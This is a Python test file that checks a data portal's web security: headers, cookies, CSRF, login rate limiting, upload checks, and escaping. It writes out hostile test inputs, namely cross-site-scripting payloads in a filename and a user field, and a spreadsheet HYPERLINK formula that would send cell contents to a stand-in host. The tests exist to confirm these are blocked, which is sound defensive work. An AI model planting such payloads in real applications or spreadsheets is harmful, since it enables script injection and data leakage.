"""Portal security against the live server: headers, cookies, CSRF, the sign-in rate limit,
the upload size cap, pre-flight, content-hash storage, attachments, escaping, and the region
written inside an uploaded sheet."""
from __future__ import annotations

import hashlib
import io
import os
import re
import sqlite3

import httpx
import pytest
from openpyxl import load_workbook

from tests.portal_helpers import (PASSWORDS, add_users, client, csrf, form_token, sheet, sign_in,
                                  upload)


def _db(portal):
    return sqlite3.connect(portal.data / "portal.sqlite3")


def _uploads(portal) -> int:
    return _db(portal).execute("SELECT count(*) FROM uploads").fetchone()[0]


def test_security_headers_on_every_kind_of_response(portal):
    c = sign_in(portal.server, "officer@example.org", "officer")
    for url in ("/login", "/national", "/healthz", "/static/portal.css", "/no-such-page",
                f"/versions/{portal.ids['version']}/download"):
        r = c.get(url)
        csp = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp, url
        assert "http" not in csp and "*" not in csp, csp  # no third-party origin at all
        assert r.headers["x-content-type-options"] == "nosniff", url
        assert r.headers["x-frame-options"] == "DENY"
    assert "server" not in client(portal.server).get("/login").headers


def test_cookies_httponly_samesite_and_secure_over_tls(portal):
    c = client(portal.server)
    r = c.get("/login")
    assert re.search(r"nabb_csrf=[^;]+;.*HttpOnly", r.headers["set-cookie"], re.I)
    assert "samesite=strict" in r.headers["set-cookie"].lower()
    r = c.post("/login", data={"csrftoken": csrf(r.text), "email": "gr@example.org",
                               "password": PASSWORDS["coordinator"]})
    cookie = r.headers["set-cookie"].lower()
    assert "nabb_session=" in cookie and "httponly" in cookie and "samesite=lax" in cookie
    assert "secure" not in cookie  # plain http on loopback
    # behind a TLS proxy (X-Forwarded-Proto from a trusted address) every cookie is Secure
    tls = client(portal.server)
    tls.headers["x-forwarded-proto"] = "https"
    r = tls.get("/login")
    assert "secure" in r.headers["set-cookie"].lower()
    assert "strict-transport-security" in r.headers
    # httpx keeps Secure cookies for https only: send it by hand, as the browser behind TLS does
    browser = re.search(r"nabb_csrf=([^;]+)", r.headers["set-cookie"]).group(1)
    r = httpx.post(portal.server.url + "/login", headers={"x-forwarded-proto": "https",
                                                           "cookie": f"nabb_csrf={browser}"},
                   data={"csrftoken": csrf(r.text), "email": "gr@example.org",
                         "password": PASSWORDS["coordinator"]})
    assert r.status_code == 303
    assert "secure" in r.headers["set-cookie"].lower() and "httponly" in r.headers["set-cookie"].lower()


def test_every_form_needs_its_csrf_token(portal):
    gr = sign_in(portal.server, "gr@example.org", "coordinator")
    officer = sign_in(portal.server, "officer@example.org", "officer")
    before = _uploads(portal)
    data = (portal.sheets / "gr_ok.xlsx").read_bytes()
    # no token, a wrong token, another session's token
    for token in (None, "0" * 64, form_token(officer, "/national")):
        files = {"file": ("gr.xlsx", data, "application/octet-stream")}
        if token:
            files = {"csrftoken": (None, token), **files}
        r = gr.post("/upload", files=files)
        assert r.status_code == 403 and "CSRF" in r.text
    assert _uploads(portal) == before
    r = officer.post("/versions", data={})
    assert r.status_code == 403
    fresh = client(portal.server)  # sign-in form without its token (login CSRF)
    r = fresh.post("/login", data={"email": "gr@example.org", "password": PASSWORDS["coordinator"]})
    assert r.status_code == 403


def test_sign_in_is_rate_limited(portal):
    add_users(portal.data, None, [("victim@example.org", "officer", ())])
    c = client(portal.server)
    token = csrf(c.get("/login").text)
    for _ in range(5):
        r = c.post("/login", data={"csrftoken": token, "email": "victim@example.org", "password": "wrong" * 3})
        assert r.status_code == 401
    r = c.post("/login", data={"csrftoken": token, "email": "victim@example.org",
                               "password": PASSWORDS["officer"]})
    assert r.status_code == 429 and "Too many" in r.text
    assert "nabb_session" not in r.headers.get("set-cookie", "")
    actions = [a for (a,) in _db(portal).execute(
        "SELECT action FROM audit_log WHERE user_email='victim@example.org'")]
    assert actions.count("signin_failed") == 5 and "signin_blocked" in actions


def test_upload_size_cap(portal):
    gr = sign_in(portal.server, "gr@example.org", "coordinator")
    before = _uploads(portal)
    big = b"PK" + os.urandom(6 * 1024 * 1024)
    r = gr.post("/upload", files={"csrftoken": (None, form_token(gr, "/regions")),
                                  "file": ("big.xlsx", big, "application/octet-stream")})
    assert r.status_code == 413
    assert _uploads(portal) == before


def test_preflight_refuses_a_file_that_is_not_a_workbook(portal):
    gr = sign_in(portal.server, "gr@example.org", "coordinator")
    before = _uploads(portal)
    r = gr.post("/upload", files={"csrftoken": (None, form_token(gr, "/regions")),
                                  "file": ("sheet.xlsx", b"<html>not a workbook</html>", "text/html")})
    assert r.status_code == 403 and "Nothing was stored" in r.text
    assert "xlsx" in r.text.lower()  # the pre-flight's own message is shown
    assert _uploads(portal) == before


def test_region_inside_the_sheet_must_be_the_uploaders(portal):
    fr = sign_in(portal.server, "fr@example.org", "coordinator")
    before = _uploads(portal)
    r = upload(fr, sheet(portal.sheets, "named_fr_but_gr.xlsx", region="GR"))
    assert r.status_code == 403 and "region GR" in r.text and "Nothing was stored" in r.text
    assert _uploads(portal) == before
    refused = _db(portal).execute("SELECT detail FROM audit_log WHERE action='upload_refused' "
                                  "AND user_email='fr@example.org'").fetchall()
    assert refused


def test_files_stored_under_their_hash_and_served_as_attachments(portal):
    gr = sign_in(portal.server, "gr@example.org", "coordinator")
    path = sheet(portal.sheets, "x.xlsx", capacity=777)
    nasty = '<img src=x onerror=alert(2)>"; evil.html'
    r = gr.post("/upload", files={"csrftoken": (None, form_token(gr, "/regions")),
                                  "file": (nasty, path.read_bytes(), "text/html")})
    assert r.status_code == 303
    up = int(r.headers["location"].rsplit("/", 1)[1])
    sha = hashlib.sha256(path.read_bytes()).hexdigest()
    stored = portal.data / "uploads" / sha[:2] / f"{sha}.xlsx"
    assert stored.read_bytes() == path.read_bytes()
    names = [n for _, dirs, files in os.walk(portal.data) for n in dirs + files]
    assert not any("onerror" in n or "evil" in n for n in names)
    page = gr.get(f"/uploads/{up}").text
    assert "<img src=x onerror=alert(2)>" not in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    for url in (f"/uploads/{up}/file", f"/uploads/{up}/annotated", "/regions/GR/template"):
        r = gr.get(url)
        assert r.headers["content-disposition"].startswith("attachment; filename=\"")
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', r.headers["content-disposition"])
        assert r.headers["content-type"].startswith("application/vnd.openxmlformats")


def test_user_text_is_escaped_in_pages_and_never_a_formula_in_workbooks(portal):
    add_users(portal.data, None, [("dr@example.org", "coordinator", ("DR",))])
    dr = sign_in(portal.server, "dr@example.org", "coordinator")
    plant = '=HYPERLINK("http://x.invalid/?"&A1,"<b>click</b>")'
    who = '<img src=x onerror=alert(1)>'
    r = upload(dr, sheet(portal.sheets, "dr.xlsx", region="DR", plant=plant, coordinator=who))
    assert r.status_code == 303, r.text[:2000]
    up = int(r.headers["location"].rsplit("/", 1)[1])
    page = dr.get(f"/uploads/{up}").text
    assert who not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    r = dr.post(f"/uploads/{up}/accept", data={"csrftoken": form_token(dr, f"/uploads/{up}")})
    assert r.status_code == 303
    officer = sign_in(portal.server, "officer@example.org", "officer")
    r = officer.post("/versions", data={"csrftoken": form_token(officer, "/national")})
    assert r.status_code == 303, r.text[:3000]
    page = officer.get(r.headers["location"]).text
    assert "<b>click</b>" not in page
    wb = load_workbook(io.BytesIO(officer.get(r.headers["location"] + "/download").content))
    cells = [c for row in wb["capacity"].iter_rows() for c in row if c.value == plant]
    assert cells and all(c.data_type == "s" for c in cells)
    audit = sign_in(portal.server, "admin@example.org", "admin").get("/admin/audit").text
    assert "<img src=x" not in audit
